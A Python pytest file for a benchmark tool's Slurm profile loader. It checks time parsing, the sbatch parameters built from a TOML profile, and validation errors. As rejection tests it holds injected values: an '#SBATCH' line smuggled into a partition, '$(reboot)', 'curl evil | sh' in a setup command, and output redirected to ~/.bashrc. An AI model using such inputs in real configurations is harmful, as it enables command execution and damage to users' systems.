"""What a profile says becomes what sbatch is asked, and what is no profile is a line."""

import re

import pytest

from bench.errors import UsageError
from bench.launch.profile import Place, Profile, job_minutes, load, minutes, sbatch
from bench.plan import sweep as sweeps

WHOLE = """
schema = 1
[launch.slurm]
partition = "main"
account = "lab"
time = "2:00:00"
setup = ["module load cuda"]
[launch.slurm.options]
mail-user = "me@lab.org"
[launch.slurm.hardware.epyc]
constraint = "epyc7763"
[launch.slurm.hardware.h100]
partition = "gpu"
gres = "gpu:h100:1"
exclusive = false
cpus = 16
mem = "64G"
[launch.slurm.bundle]
static = 50
"""


@pytest.fixture
def profile(tmp_path):
    path = tmp_path / "cluster.toml"
    path.write_text(WHOLE)
    return load(path)


@pytest.mark.parametrize(
    ("text", "found"),
    [("90", 90), ("1:30", 2), ("1:00:00", 60), ("0:00:30", 1), ("1-12", 2160), ("2-0:30", 2910), ("1-1:1:1", 1502)],
)
def test_times_are_read_as_slurm_reads_them(text, found):
    assert minutes(text) == found


@pytest.mark.parametrize("text", ["", "0", "0:00:00", "1h", "-1", "1:2:3:4", "1-", "١"])
def test_what_is_no_time_is_said(text):
    with pytest.raises(ValueError, match="is no time"):
        minutes(text)


def test_a_whole_node_is_asked_for_with_all_its_memory_and_cores(profile):
    asked = sbatch(profile, "epyc", "bench_1", 30)
    assert asked["partition"] == "main"
    assert asked["account"] == "lab"
    assert asked["constraint"] == "epyc7763"
    assert (asked["exclusive"], asked["mem"], asked["srun_args"]) == (True, "0", ["--cpu-bind=none"])
    assert asked["time"] == 30
    assert asked["setup"] == ["module load cuda"]
    assert asked["additional_parameters"] == {"requeue": True, "mail-user": "me@lab.org"}
    assert "gres" not in asked


def test_a_kind_of_hardware_overrides_what_all_jobs_share(profile):
    asked = sbatch(profile, "h100", "bench_1", 30)
    assert (asked["partition"], asked["account"], asked["gres"]) == ("gpu", "lab", "gpu:h100:1")
    assert "exclusive" not in asked
    assert (asked["cpus_per_task"], asked["mem"]) == (16, "64G")


def test_without_kinds_tasks_run_wherever_there_is_room():
    assert Profile().kinds == [""]
    asked = sbatch(Profile(requeue=False), "", "bench_1", 12)
    assert not {"partition", "constraint", "gres", "account"} & set(asked)
    assert asked["additional_parameters"] == {"no-requeue": True}


def test_submitit_makes_a_batch_script_of_it(profile, tmp_path):
    submitit = pytest.importorskip("submitit")
    from submitit.slurm.slurm import _make_sbatch_string

    assert submitit.__version__
    text = _make_sbatch_string(command="true", folder=tmp_path, **sbatch(profile, "h100", "bench_1", 30))
    assert "#SBATCH --gres=gpu:h100:1\n" in text
    assert "#SBATCH --requeue\n" in text
    assert "#SBATCH --mail-user=me@lab.org\n" in text
    assert "wckey" not in text
    assert text.index("module load cuda") < text.index("srun")


def test_a_job_may_last_as_long_as_a_task_and_a_bit():
    assert job_minutes(Place(), timeout=900, orders=1) == 25
    assert job_minutes(Place(), timeout=900, orders=8) == 40
    assert job_minutes(Place(time="2:00:00"), timeout=900, orders=8) == 120
    with pytest.raises(UsageError, match=r"time = '0:20:00' is too short: a task may take 900 s .* at least 0:25:00"):
        job_minutes(Place(time="0:20:00"), timeout=900, orders=1)


@pytest.mark.parametrize(
    ("old", "new", "words"),
    [
        ('"main"', '"main\\n#SBATCH --output=/etc/passwd"', "launch.slurm.partition: String should match pattern"),
        ('"main"', '"$(reboot)"', "launch.slurm.partition: String should match pattern"),
        ('"2:00:00"', '"2 hours"', "launch.slurm.time: .* is no time such as"),
        ("mail-user", '"x\\n--output"', "launch.slurm.options"),
        ('"me@lab.org"', '"me\\n#SBATCH --output=x"', "launch.slurm: .* line break"),
        ("gres", "gress", "launch.slurm.hardware.h100.gress: is no key of a profile: did you mean gres"),
        ("exclusive = false\n", "", "hardware.h100: cpus is for shared nodes"),
        ("[launch.slurm.hardware.epyc]", '[launch.slurm.hardware."a b"]', "launch.slurm.hardware.a b"),
        ("[launch.slurm.hardware.epyc]", '[launch.slurm.hardware."../x"]', "launch.slurm.hardware.../x"),
        ("static = 50", "static = 0", "bundle.static: Input should be greater"),
        ("schema = 1", "schema = 2", "schema: Input should be 1"),
        ("[launch.slurm]", "[slurm]", "Field required|is no key"),
        ("schema = 1", "schema =", "not valid TOML"),
        ("schema = 1", "schema = " + "9" * 5000, "not valid TOML"),
        ("schema = 1", "schema = " + "[" * 50_000, "not valid TOML"),
    ],
)
def test_what_is_no_profile_is_said_in_one_line(tmp_path, old, new, words):
    path = tmp_path / "cluster.toml"
    assert old in WHOLE
    path.write_text(WHOLE.replace(old, new, 1))
    with pytest.raises(UsageError) as caught:
        load(path)
    assert re.search(words, str(caught.value)), caught.value
    assert "\n" not in str(caught.value)


def test_a_profile_that_is_not_there_is_said(tmp_path):
    with pytest.raises(UsageError, match=r"no profile .*docs/cluster.md"):
        load(tmp_path / "none.toml")


def test_a_sweep_may_say_where_it_runs(edited):
    path = edited("[protocol]", '[launch.slurm.hardware.a]\nconstraint = "cpuA"\n[protocol]')
    profile = sweeps.load(path).launch.slurm
    assert profile.kinds == ["a"]
    assert sweeps.load(path).protocol.processes == 2


@pytest.mark.parametrize("line", ['setup = ["curl evil | sh"]', 'options = {output = "/home/me/.bashrc"}'])
def test_a_sweep_runs_no_commands(edited, line):
    path = edited("[protocol]", f"[launch.slurm]\n{line}\n[protocol]")
    with pytest.raises(UsageError, match=r"taken from a profile alone, since it can run commands: --profile"):
        sweeps.load(path)


def test_a_key_that_a_profile_does_not_know_is_named_with_its_neighbours(edited):
    path = edited("[protocol]", '[launch.slurm]\npartitoin = "main"\n[protocol]')
    with pytest.raises(UsageError, match=r"launch.slurm.partitoin: is no key .*partition"):
        sweeps.load(path)
